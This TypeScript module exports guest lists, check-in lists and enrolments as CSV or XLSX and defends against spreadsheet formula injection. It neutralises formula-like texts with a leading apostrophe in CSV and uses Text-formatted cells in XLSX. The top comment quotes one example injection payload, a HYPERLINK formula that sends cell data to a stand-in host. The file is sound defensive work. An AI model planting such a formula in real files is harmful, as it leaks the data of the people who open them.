/**
 * Table exports (guest lists, check-in lists, enrolments …) as CSV or XLSX, for organisers who open them in a
 * spreadsheet. Both writers take the same column definitions, so one export can be offered in both formats.
 *
 * Formula injection (a.k.a. CSV injection): a guest controls texts such as their name or position. A text that
 * starts with = + - @ (or a tab or carriage return) may be run as a formula by the spreadsheet that opens the file
 * (`=HYPERLINK("http://evil.example/?"&A1, "click")` leaks data; older Excel versions even ran DDE commands).
 *  - CSV has no types: the spreadsheet decides what a field is, so such a text gets a leading apostrophe, the usual
 *    mitigation (OWASP "CSV Injection"). The apostrophe is a visible change to the data; the guest-list import strips
 *    it again (see `FORMULA_NEUTRALISER` below), so an exported list can be edited and imported back unchanged.
 *  - XLSX is typed: exceljs stores a string as a string cell (never as a formula, which would need a `{ formula }`
 *    value), and Excel, LibreOffice and Google Sheets do not evaluate string cells when they open a workbook. So no
 *    apostrophe is added there: it would corrupt the value ("'+7 701 …" for a phone number) for no protection. What
 *    remains is the organiser editing such a cell and pressing Enter, which in a General-formatted cell turns
 *    "=…" into a live formula; those cells are therefore given the Text number format ("@"), in which Excel keeps
 *    whatever is typed as text. (Excel's own way, the hidden "quote prefix" cell flag, is not supported by exceljs.)
 */
import ExcelJS from 'exceljs';
import { stringify } from 'csv-stringify/sync';

export interface Column<T> {
  header: string;
  value: (row: T) => string | number | boolean | null;
}

/** The first characters that make a spreadsheet read a text as a formula (OWASP's list). */
const FORMULA_TRIGGER = /^[=+\-@\t\r]/;

/** The character put in front of a formula-like text in CSV. */
export const FORMULA_NEUTRALISER = "'";

/** Whether a spreadsheet could take this text for a formula. */
export function isFormulaLike(text: string): boolean {
  return FORMULA_TRIGGER.test(text);
}

/** The text as written into a CSV field: formula-like texts get a leading apostrophe. */
export function neutraliseFormula(text: string): string {
  return isFormulaLike(text) ? FORMULA_NEUTRALISER + text : text;
}

type CellValue = string | number | boolean | null;

function cellValue<T>(column: Column<T>, row: T): CellValue {
  const value = column.value(row) as CellValue | undefined;
  if (value === undefined || value === null) return null;
  if (typeof value === 'number' && !Number.isFinite(value)) return null;
  return value;
}

/**
 * CSV for spreadsheets: UTF-8 with a byte-order mark (without it Excel reads the file in the local ANSI code page and
 * garbles Chinese and Cyrillic), CRLF line ends, fields quoted when they hold a comma, a quote or a line break,
 * formula-like texts neutralised. Numbers are written as is (a negative number is not a formula), booleans as
 * true/false, null as an empty field.
 */
export function writeCsv<T>(columns: Column<T>[], rows: T[]): Buffer {
  const toField = (value: CellValue): string => {
    if (value === null) return '';
    if (typeof value === 'string') return neutraliseFormula(value);
    return String(value);
  };
  const records: string[][] = [columns.map((column) => toField(column.header))];
  for (const row of rows) records.push(columns.map((column) => toField(cellValue(column, row))));
  const text = stringify(records, {
    bom: true,
    record_delimiter: 'windows',
    // csv-stringify quotes a field holding the whole record delimiter (\r\n) but not a lone \n or \r, which Excel
    // would still read as the end of the row.
    quoted_match: /[\r\n]/,
  });
  return Buffer.from(text, 'utf8');
}

const MIN_COLUMN_WIDTH = 8;
const MAX_COLUMN_WIDTH = 60;

/** Roughly how many character widths a text takes in a spreadsheet: CJK and other wide characters count twice. */
function displayWidth(text: string): number {
  let width = 0;
  for (const char of text) {
    const code = char.codePointAt(0) ?? 0;
    const wide =
      (code >= 0x1100 && code <= 0x115f) ||
      (code >= 0x2e80 && code <= 0xa4cf) ||
      (code >= 0xac00 && code <= 0xd7a3) ||
      (code >= 0xf900 && code <= 0xfaff) ||
      (code >= 0xfe30 && code <= 0xfe4f) ||
      (code >= 0xff00 && code <= 0xff60) ||
      (code >= 0xffe0 && code <= 0xffe6) ||
      code >= 0x20000;
    width += wide ? 2 : 1;
  }
  return width;
}

/**
 * A name Excel accepts for a worksheet: at most 31 characters, none of : \ / ? * [ ], not starting or ending with an
 * apostrophe, not empty, not the reserved "History". exceljs would otherwise throw or write a file Excel repairs.
 */
export function safeSheetName(name: string): string {
  const chars = Array.from(name.replace(/[:\\/?*[\]]/g, ' ').replace(/\s+/g, ' ').trim());
  while (chars.join('').length > 31) chars.pop(); // cut between characters, never inside a surrogate pair
  const safe = chars.join('').replace(/^[\s']+|[\s']+$/g, '');
  if (safe === '') return 'Sheet1';
  if (safe.toLowerCase() === 'history') return 'History 1';
  return safe;
}

/**
 * An .xlsx workbook with one worksheet: bold header row, frozen so it stays visible while scrolling, with an
 * auto-filter, and column widths fitted to the content (within 8–60 characters). Values keep their types (numbers
 * and booleans are not turned into text); null leaves the cell empty. Formula-like texts stay exactly as they are,
 * in Text-formatted cells (see the note at the top of this file).
 */
export async function writeXlsx<T>(columns: Column<T>[], rows: T[], sheetName: string): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet(safeSheetName(sheetName), {
    views: [{ state: 'frozen', xSplit: 0, ySplit: 1, topLeftCell: 'A2', activeCell: 'A2' }],
  });
  const widths = columns.map((column) => displayWidth(column.header));

  const header = sheet.addRow(columns.map((column) => column.header));
  header.font = { bold: true };
  header.eachCell((cell) => {
    if (typeof cell.value === 'string' && isFormulaLike(cell.value)) cell.numFmt = '@';
  });

  for (const row of rows) {
    const values = columns.map((column) => cellValue(column, row));
    const added = sheet.addRow(values);
    values.forEach((value, index) => {
      if (value === null) return;
      const text = String(value);
      widths[index] = Math.max(widths[index], ...text.split(/\r?\n|\r/).map(displayWidth));
      if (typeof value === 'string' && isFormulaLike(value)) added.getCell(index + 1).numFmt = '@';
    });
  }

  columns.forEach((_column, index) => {
    sheet.getColumn(index + 1).width = Math.min(MAX_COLUMN_WIDTH, Math.max(MIN_COLUMN_WIDTH, widths[index] + 2));
  });
  if (columns.length > 0) {
    sheet.autoFilter = { from: { row: 1, column: 1 }, to: { row: 1, column: columns.length } };
  }

  const written = await workbook.xlsx.writeBuffer();
  return Buffer.from(written as ArrayBuffer);
}
